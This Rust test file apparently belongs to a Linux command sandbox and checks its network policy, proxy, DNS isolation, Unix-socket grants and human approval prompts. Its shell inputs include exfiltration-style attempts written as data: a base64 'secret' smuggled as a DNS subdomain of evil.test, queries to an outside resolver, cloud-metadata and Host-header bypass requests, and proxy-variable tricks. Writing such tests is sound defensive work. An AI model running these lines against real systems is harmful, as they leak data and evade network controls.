//! What is asked, what is never let through, and what stays the command's own.

use std::collections::BTreeSet;
use std::io::{IoSlice, Write as _};
use std::mem::MaybeUninit;
use std::net::TcpListener;
use std::os::fd::AsFd as _;
use std::os::unix::net::UnixListener;
use std::thread;
use std::time::Duration;

use rustix::net::{SendAncillaryBuffer, SendAncillaryMessage, SendFlags, sendmsg};
use stockade_protocol::{
    Decision, DenyingRule, HostRule, HttpMethods, NetworkProtocol, PermissionAmendment, ReviewDecision,
};
use stockade_sandbox_linux::{Bwrap, LandlockOnly, Native};
use stockade_sandboxing::{Backend as _, CommandSpec, Plan as _, SpawnError, Stdio};

use crate::world::{Engine, World, allow, server};

#[test]
fn a_denial_says_which_rule_would_allow_it() {
    let (port, _) = server("a page");
    let world = World::good(port);
    let ended = world.run(&format!("curl -sS http://evil.test:{port}/"));
    assert!(ended.stderr.contains("evil.test"), "{ended:?}");
    let violations = world.trail.violations.lock().unwrap();
    // Once for each address of the name that the program tried.
    let [violation, ..] = violations.as_slice() else { panic!("nothing was denied") };
    assert_eq!(violation.rule, Some(DenyingRule::NotGranted));
    assert!(violation.program.as_ref().unwrap().to_string().ends_with("curl"), "{violation:?}");
    assert!(violation.pid.is_some());
    let least = HostRule { protocol: Some(NetworkProtocol::Tcp), ..allow("evil.test", port) };
    assert_eq!(violation.amendment, Some(PermissionAmendment::Network(least)));
}

#[test]
fn the_unknown_is_asked_for_once() {
    let (port, _) = server("a page");
    let world = World { person: Some(ReviewDecision::Approved), ..World::good(port) };
    let line = format!("for n in 1 2 3; do curl -sS http://new.test:{port}/ & done; wait");
    let ended = world.run(&line);
    assert_eq!(ended.stdout, "a pagea pagea page", "{ended:?}");
    let questions = world.trail.questions.lock().unwrap();
    assert_eq!(questions.len(), 1, "{questions:?}");
    assert!(questions[0].program.as_ref().unwrap().to_string().ends_with("curl"));
}

#[test]
fn a_no_is_a_no() {
    let (port, heard) = server("a page");
    let world = World { person: Some(ReviewDecision::Denied { reason: None }), ..World::good(port) };
    let ended = world.run(&format!("curl -sS http://new.test:{port}/"));
    assert_eq!(ended.stdout, "");
    assert!(heard.lock().unwrap().is_empty());
}

/// px24: a connection that waits for an answer ends when the time is over, and a late yes opens nothing.
#[test]
fn no_answer_ends_the_connection() {
    for engine in [Engine::Native, Engine::Bwrap] {
        let (port, heard) = server("a page");
        let patience = Duration::from_millis(50);
        let world = World { engine, patience, person: Some(ReviewDecision::Approved), ..World::good(port) };
        let line = format!("curl -sS http://new.test:{port}/; sleep 0.5; curl -sS http://new.test:{port}/");
        let ended = world.run(&line);
        assert!(ended.stdout.is_empty() && ended.stderr.contains("new.test"), "{ended:?}");
        assert!(heard.lock().unwrap().is_empty());
        assert_eq!(world.trail.questions.lock().unwrap().len(), 1);
        let (lines, denied) = (world.trail.lines(), format!("new.test:{port} Forbidden"));
        assert!(!lines.is_empty() && lines.iter().all(|line| *line == denied), "{lines:?}");
    }
}

/// px08: without a proxy there is no more to be reached than with one.
#[test]
fn variables_about_proxies_change_nothing() {
    let (port, heard) = server("a page");
    let world = World::good(port);
    let ended = world.run(&format!(
        "export NO_PROXY='*' no_proxy='*' http_proxy= HTTP_PROXY= ALL_PROXY=; \
         curl -sS http://good.test:{port}/; for host in evil.test 127.0.0.2 '[::1]' 169.254.169.254; do \
         curl -sS --noproxy '*' --max-time 5 http://$host:{port}/; done; true"
    ));
    assert_eq!(ended.stdout, "a page", "{ended:?}");
    assert_eq!(heard.lock().unwrap().len(), 1);
}

/// Reading only: what can be seen to write is denied, and so is what can't be seen.
#[test]
fn limited_is_looked_into() {
    let (port, heard) = server("a page");
    let mut world = World { methods: HttpMethods::ReadOnly, ..World::good(port) };
    world.rules.push(allow("good.test", 443));
    let ended = world.run(&format!(
        "curl -sS http://good.test:{port}/; echo; curl -sS -d secret http://good.test:{port}/; \
         curl -sS -H 'Host: evil.test' http://good.test:{port}/; curl -skS https://good.test:{port}/; curl -skS https://good.test/; \
         printf 'EVIL\\r\\n\\r\\n' | nc -w 3 good.test {port}; true"
    ));
    assert!(ended.stdout.starts_with("a page\n"), "{ended:?}");
    assert!(ended.stdout.contains("only GET, HEAD and OPTIONS"), "{ended:?}");
    let heard = heard.lock().unwrap();
    assert_eq!(heard.len(), 1, "{heard:?}");
    assert!(world.trail.lines().contains(&String::from("good.test:443 Forbidden")), "{:?}", world.trail.lines());
}

/// px21: nothing that a command asks a resolver leaves the machine, whichever server it asks.
#[test]
fn no_query_leaves() {
    let world = World::good(1);
    let ended = world.run(
        "getent hosts $(echo secret | base64).evil.test; dig +time=1 +tries=1 +short leak.evil.test @192.0.2.53; \
         dig +time=1 +tries=1 +short leak.evil.test; cat /etc/resolv.conf",
    );
    assert!(ended.stdout.contains("nameserver 127.0.0.1"), "{ended:?}");
    assert!(ended.stdout.contains("198.18.") || ended.stdout.contains("fd53:"), "{ended:?}");
    // A look-up is no connection. A query to another server is a datagram, which is decided on.
    assert_eq!(world.trail.lines(), ["192.0.2.53:53 Forbidden"]);
}

/// A server in one command is reached by the next of the same session, and by no other process.
#[test]
fn loopback_is_shared_by_a_session() {
    let (port, _) = server("outside");
    // A port that the policy does not name: one that it names is the host's.
    let own = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let world = World::good(port);
    let (session, run) = world.session();
    // No signal reaches it from another command, so it ends when it is asked for its end.
    let server = format!(
        r#"
import http.server
class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.end_headers(); self.wfile.write(b"inside\n")
        self.server.is_over = self.path == "/end"
server = http.server.HTTPServer(("127.0.0.1", {own}), Page)
server.is_over = False
while not server.is_over: server.handle_request()
print("asked to end")
"#
    );
    thread::scope(|scope| {
        let server = scope.spawn(|| run(&session, &format!("timeout 20 python3 -c '{server}'")));
        let line = format!(
            "for n in $(seq 50); do curl -sf http://127.0.0.1:{own}/ && break; sleep 0.1; done; curl -sS http://good.test:{port}/"
        );
        let client = run(&session, &line);
        assert_eq!(client.stdout, "inside\noutside", "{client:?}");
        assert!(world.run(&format!("curl -sf http://127.0.0.1:{own}/")).stdout.is_empty(), "another sandbox");
        assert_eq!(run(&session, &format!("curl -sf http://127.0.0.1:{own}/end")).stdout, "inside\n");
        let ended = server.join().unwrap();
        assert_eq!(ended.stdout, "asked to end\n", "it was there until then: {ended:?}");
    });
}

/// A database or a proxy on this machine is reached by the address and port that the policy names.
#[test]
fn the_hosts_loopback_is_reached_where_it_is_named() {
    let (port, _) = server("the host's");
    let (other, heard) = server("not named");
    let mut world = World::good(port);
    world.rules = vec![allow("127.0.0.1", port)];
    let ended = world.run(&format!("curl -sS http://127.0.0.1:{port}/; curl -sS http://localhost:{other}/"));
    assert_eq!(ended.stdout, "the host's", "{ended:?}");
    assert!(heard.lock().unwrap().is_empty(), "the other is the command's own loopback, where nobody listens");
}

/// `localhost` is what a person writes. Inside nothing but its addresses is seen, and the answer is the oracle's.
#[test]
fn the_hosts_loopback_is_reached_by_its_name() {
    for engine in [Engine::Native, Engine::Bwrap] {
        let ((port, _), (denied, unheard)) = (server("the host's"), server("denied"));
        let mut world = World { engine, ..World::good(port) };
        let forbid = |host, port| HostRule { decision: Decision::Forbidden, ..allow(host, port) };
        world.rules = vec![
            allow("localhost", port),
            allow("127.0.0.1", denied),
            allow("::1", denied),
            forbid("localhost", denied),
        ];
        for (host, argument) in [("localhost", "-4"), ("app.localhost", "-4"), ("127.0.0.1", "-4")] {
            let ended = world.run(&format!(
                "curl -sS {argument} http://{host}:{port}/; curl -sS {argument} http://{host}:{denied}/"
            ));
            assert_eq!(ended.stdout, "the host's", "{host}: {ended:?}");
            for (port, decision) in [(port, Decision::Allow), (denied, Decision::Forbidden)] {
                let oracle = world.permissions().connect(&host.parse().unwrap(), NetworkProtocol::Tcp, port);
                assert_eq!(oracle, decision, "{host}:{port}");
                let line = format!("127.0.0.1:{port} {decision:?}");
                assert!(world.trail.lines().contains(&line), "{line}: {:?}", world.trail.lines());
            }
        }
        assert!(unheard.lock().unwrap().is_empty());
    }
}

/// The other address of the name.
#[test]
fn the_hosts_loopback_is_reached_by_its_name_over_ipv6() {
    let listener = TcpListener::bind("[::1]:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            stream.write_all(b"the host's").ok();
        }
    });
    let mut world = World::good(port);
    world.rules = vec![allow("localhost", port)];
    let ended = world.run(&format!("nc -6 -w 3 localhost {port} </dev/null"));
    assert_eq!(ended.stdout, "the host's", "{ended:?}");
    assert_eq!(world.trail.lines(), [format!("::1:{port} Allow")]);
}

/// Where requests are looked into, they name the server as the program does, not by its address.
#[test]
fn the_hosts_loopback_is_read_by_its_name() {
    let (port, heard) = server("the host's");
    let mut world = World { methods: HttpMethods::ReadOnly, ..World::good(port) };
    world.rules = vec![allow("localhost", port)];
    let ended = world.run(&format!(
        "curl -sS -4 http://localhost:{port}/; curl -sS -4 -d secret http://localhost:{port}/; \
         curl -sS -4 -H 'Host: evil.test' http://localhost:{port}/"
    ));
    assert!(ended.stdout.starts_with("the host's"), "{ended:?}");
    assert_eq!(heard.lock().unwrap().len(), 1);
}

#[test]
fn named_unix_sockets_are_reached_and_no_others() {
    named_unix_sockets(Engine::Native);
}

pub(crate) fn named_unix_sockets(engine: Engine) {
    let directory = tempfile::tempdir_in("/var/tmp").unwrap();
    let place = |name: &str| directory.path().canonicalize().unwrap().join(name).to_str().unwrap().to_owned();
    for name in ["granted.sock", "other.sock"] {
        let listener = UnixListener::bind(place(name)).unwrap();
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                stream.write_all(b"hello").ok();
            }
        });
    }
    let line = format!(
        "nc -U -w 2 {} </dev/null; nc -U -w 2 {} </dev/null; \
        python3 -c 'import socket; socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)'",
        place("granted.sock"),
        place("other.sock")
    );
    let granted = BTreeSet::from([place("granted.sock").parse().unwrap()]);
    let world = World { engine, unix_sockets: granted, ..World::good(1) };
    let ended = world.run(&line);
    assert_eq!(ended.stdout, "hello", "{ended:?}");
    assert!(ended.stderr.contains("PermissionError"), "{ended:?}");
    assert_eq!(World { engine, ..World::good(1) }.run(&line).stdout, "", "none without a grant");
}

/// A file that comes through a granted socket has the mode in which its sender opened it: for reading.
#[test]
fn a_file_from_a_named_unix_socket_is_not_cut() {
    let directory = tempfile::tempdir_in("/var/tmp").unwrap();
    let place = |name: &str| directory.path().canonicalize().unwrap().join(name).to_str().unwrap().to_owned();
    std::fs::write(place("file"), "whole").unwrap();
    let (listener, file) = (UnixListener::bind(place("sock")).unwrap(), std::fs::File::open(place("file")).unwrap());
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let (files, mut space) = ([file.as_fd()], [MaybeUninit::uninit(); rustix::cmsg_space!(ScmRights(1))]);
            let mut ancillary = SendAncillaryBuffer::new(&mut space);
            ancillary.push(SendAncillaryMessage::ScmRights(&files));
            sendmsg(&stream, &[IoSlice::new(b"x")], &mut ancillary, SendFlags::empty()).unwrap();
        }
    });
    let script = format!(
        r#"
import socket, array, os, errno
s = socket.socket(socket.AF_UNIX); s.connect({:?})
name = "/proc/self/fd/%d" % array.array("i", s.recvmsg(1, 100)[1][0][2])[0]
print(open(name).read())
for cut in [lambda: os.truncate(name, 0), lambda: os.open(name, os.O_RDONLY | os.O_TRUNC)]:
    try: cut(); print("cut")
    except OSError as e: print(errno.errorcode[e.errno])
"#,
        place("sock")
    );
    let granted = BTreeSet::from([place("sock").parse().unwrap()]);
    let ended = World { unix_sockets: granted, ..World::good(1) }.run(&format!("python3 -c '{script}'"));
    assert_eq!(ended.stdout, "whole\nEACCES\nEACCES\n", "{ended:?}");
    assert_eq!(std::fs::read_to_string(place("file")).unwrap(), "whole");
}

/// What can't be held is refused before anything runs.
#[test]
fn nothing_runs_without_somebody_to_decide() {
    let world = World::good(1);
    let command = CommandSpec {
        argv: stockade_protocol::Argv::parse(["/bin/true"]).unwrap(),
        cwd: "/".parse().unwrap(),
        environment: std::collections::BTreeMap::new(),
        process: Default::default(),
    };
    let plan = Native::new().plan(&command, &world.permissions()).unwrap();
    assert!(matches!(plan.spawn(Stdio::default()), Err(SpawnError::Unenforceable(_))));
    let bubblewrap = Bwrap::new().compile(&command, &world.permissions()).unwrap();
    assert!(matches!(bubblewrap.spawn(Stdio::default()), Err(SpawnError::Unenforceable(_))));
    assert!(LandlockOnly::new().compile(&command, &world.permissions()).is_err());
}

/// The command's end does not wait for a connection without an answer.
#[test]
fn a_command_that_is_killed_while_it_waits_is_gone() {
    let world = World { person: Some(ReviewDecision::Approved), ..World::good(1) };
    let started = std::time::Instant::now();
    let ended = world.run("timeout -s KILL 0.1 curl -sS http://new.test:1/; echo went on");
    assert!(ended.stdout.contains("went on"), "{ended:?}");
    assert!(started.elapsed() < Duration::from_secs(5));
}
